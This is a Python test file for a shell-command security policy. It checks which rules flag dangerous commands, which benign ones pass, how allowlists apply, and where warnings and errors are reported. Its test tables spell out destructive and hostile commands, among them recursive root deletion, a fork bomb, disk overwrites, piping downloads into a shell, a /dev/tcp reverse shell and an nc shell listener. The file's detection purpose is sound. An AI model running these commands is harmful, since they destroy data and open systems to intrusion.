"""The security policy: what each rule finds and what it leaves alone, how it is accepted, and where it is told."""
# ruff: noqa: E501  (tables of cases stay readable)
import json
import os
from pathlib import Path
from typing import Any, Dict, List, Optional

import pytest

from config.command_policy import LEVELS, RULES, Policy
from config.environment import Environment
from config.pipeline import load_pipeline, validate_file


def found(command: object, level: str = "high", folder: str = "/srv/app", **top: Any) -> List[str]:
    """The rules that a command breaks."""
    policy = Policy(dict(top, security_level=level), Environment(True, {"HOME": "/home/u"}, {}), "/srv/app")
    return [name for name, _ in policy.findings(command, folder)]


@pytest.mark.parametrize("command, rule", [
    ("rm -rf /", "delete-root"), ("cd x && rm -fr /*", "delete-root"), ("sudo rm -r --force /etc", "delete-root"),
    ("rm -rf ~", "delete-root"), ('rm -rf "$HOME"', "delete-root"), (["rm", "-rf", "/"], "delete-root"),
    ("/bin/rm --recursive /usr/", "delete-root"), (["sh", "-c", "true; rm -rf /"], "delete-root"), ("rm -rf x /", "delete-root"),
    ("if true; then rm -rf /; fi", "delete-root"), ("X=1 rm -rf /", "delete-root"),
    ("rm -rf $DIR/", "delete-unset"), ('rm -rf "${DIR}"/*', "delete-unset"),
    ("dd if=x of=/dev/sda bs=1M", "write-device"), ("cat x > /dev/nvme0n1", "write-device"),
    ("mkfs.ext4 /dev/sdb", "make-filesystem"), (":(){ :|:& };:", "fork-bomb"), ("sleep 1; reboot", "stop-machine"),
    ("curl -s http://x | sh", "run-download"), ("wget -qO- x | sudo bash", "run-download"), ('bash -c "$(curl x)"', "run-download"),
    ("echo x | base64 -d | sh", "decode-and-run"), ("bash -i >& /dev/tcp/1.2.3.4/1", "remote-shell"), ("nc -l -e /bin/sh 1", "remote-shell"),
    ("chmod 777 x", "open-to-all"), ("chmod -R a+rwx x", "open-to-all"), (["chmod", "0666", "x"], "open-to-all"),
    ("chmod u+s x", "set-user-id"), ("chmod 4755 x", "set-user-id"), ("echo x >> /etc/passwd", "system-files"),
    ("kill -9 -1", "kill-all"), ("sudo ls", "become-another"), ("eval $X", "eval"), ("rm -r build", "delete-recursive"),
    ("curl x -o y", "download"), ("cat /tmp/x", "shared-folder"),
])
def test_each_rule_finds(command: object, rule: str) -> None:
    assert rule in found(command)
    level = [one.level for one in RULES if one.name == rule][0]
    assert rule in found(command, level)
    if level != "low":
        assert rule not in found(command, LEVELS[LEVELS.index(level) - 1])


def test_a_pattern_may_begin_with_its_flags() -> None:
    """They must stand at the beginning of an expression, which is why nothing is put around it."""
    assert found("rm -rf /srv\n; true", command_allowlist_patterns=["(?i)RM -rf .*"]) == []
    assert found("rm -rf /", command_allowlist_patterns=["(?i)RM"]) != [], "it must match the whole command"


def test_every_rule_is_tried() -> None:
    mark = [mark for mark in test_each_rule_finds.pytestmark if mark.name == "parametrize"][0]  # type: ignore[attr-defined]
    assert {rule.name for rule in RULES} == {rule for _, rule in mark.args[1]}


@pytest.mark.parametrize("command", [
    "rm -rf build", "rm -f /srv/x", "rm -rf /srv/app/old", 'rm -rf "$DIR/old"', "rm x", "echo rm -rf /", "./rm-old -rf /", "farm -rf /",
    ["echo", "; rm -rf /"], ["echo", "$(curl x)", "| sh"], "curl -o x http://y", "dd if=x of=y.img", "echo x > /dev/null",
    "chmod 755 x", "chmod 0750 x", "chmod u+w x", "chmod -R g-w,o-rwx x", "kill -TERM 123", "kill -1 123", "base64 -d x > y",
    "echo reboot", "./reboot.sh", "cat /etc/passwd", "sync; echo done", "rsync -a --delete /srv/a/ /srv/b/", "nc -z host 80",
])
def test_what_is_left_alone(command: object) -> None:
    assert found(command, "medium") == []


def test_what_is_accepted() -> None:
    assert found("rm -rf /", command_whitelist=["rm"]) == []
    assert found("/bin/rm -rf /", command_whitelist=["rm"]) == []
    assert found("./rm -rf /; rm -rf /", command_whitelist=["rm"]) != [], "another program of that name"
    assert "run-download" in found("curl x | sh", command_whitelist=["curl"]), "the shell is not listed"
    assert found("curl x | sh", command_allowlist_patterns=["curl \\S+ \\| sh"]) == []
    assert "delete-root" in found("curl x | sh; rm -rf /", command_allowlist_patterns=["curl \\S+ \\| sh"]), "all of it must match"
    assert found(["rm", "-rf", "/"], command_allowlist_patterns=["rm -rf /"]) == []


@pytest.mark.parametrize("command, folder, good", [
    ("/srv/app/x", "/srv/app", True), ("./x", "/srv/app", True), ("../x", "/srv/app", False), ("../x", "/srv/app/below", True),
    ("/usr/bin/env x", "/", True), ("/opt/x", "/srv/app", False), ("true; /opt/x", "/srv/app", False), (["/opt/x"], "/srv/app", False),
    ("ls /opt", "/", True), ("~/x", "/srv/app", False), ("/usr/bin/../../opt/x", "/srv/app", False), ("X=/opt/y ls", "/srv/app", True),
    ("/srv/application/x", "/", False), ("${HOME}/x", "/srv/app", False),
])
def test_workspaces(command: object, folder: str, good: bool) -> None:
    assert (found(command, "low", folder, workspace_paths=["."]) == []) is good
    assert found(command, "low", folder) == []


def problems(tmp_path: Path, content: Dict[str, Any]) -> List[str]:
    """The problems of a configuration, without their places in the file."""
    (tmp_path / "c.json").write_text(json.dumps(content))
    os.chmod(str(tmp_path / "c.json"), 0o600)
    return [" ".join(str(one).split(" ")[1:4]) for one in validate_file(str(tmp_path / "c.json"), {"PATH": "/usr/bin:/bin"}).problems]


@pytest.mark.parametrize("policy, word, code", [(None, "warning", "W171"), ("warn", "warning", "W171"), ("block", "error", "E171"), ("strict", "error", "E171")])
def test_where_it_is_told(tmp_path: Path, policy: Optional[str], word: str, code: str) -> None:
    bad = "curl x | sh"
    top: Dict[str, Any] = {} if policy is None else {"security_policy": policy}
    check = {"name": "check_command", "params": {"command": bad}}
    content = dict(top, jobs=[
        {"id": "a", "command": bad}, {"id": "b", "command": ["sh", "-c", bad]},
        {"id": "c", "command": "true", "pre_checks": [check], "run_if": {"not": {"command": bad}}}],
        notifications=[{"on": "failure", "to": "command: " + bad}])
    told = [one for one in problems(tmp_path, content) if code in one]
    assert sorted(told) == sorted("%s %s %s:" % (word, code, path) for path in (
        "notifications[0].to", "jobs[0].command", "jobs[1].command", "jobs[2].pre_checks[0].params.command",
        "jobs[2].run_if.not.command"))
    assert (load_pipeline(str(tmp_path / "c.json"), {"PATH": "/usr/bin:/bin"}).pipeline is None) is (word == "error")
    assert problems(tmp_path, dict(top, defaults={"command": bad}, jobs=[{"id": "a"}]))[0] == "%s %s defaults.command:" % (word, code)


def test_what_the_outer_file_blocks_no_inner_one_accepts(tmp_path: Path) -> None:
    (tmp_path / "in.json").write_text(json.dumps({"command_whitelist": ["curl", "sh"], "security_policy": "warn", "jobs": [{"id": "a", "command": "curl x | sh"}]}))
    os.chmod(str(tmp_path / "in.json"), 0o600)
    outer: Dict[str, Any] = {"jobs": [{"id": "x", "config": "in.json"}]}
    assert "E171" not in str(problems(tmp_path, outer))
    assert "error E171 jobs[0].command:" in problems(tmp_path, dict(outer, security_policy="block"))
    (tmp_path / "in.json").write_text(json.dumps({"security_policy": "block", "jobs": [{"id": "a", "command": "curl x | sh"}]}))
    assert "error E171 jobs[0].command:" in problems(tmp_path, dict(outer, security_policy="warn"))
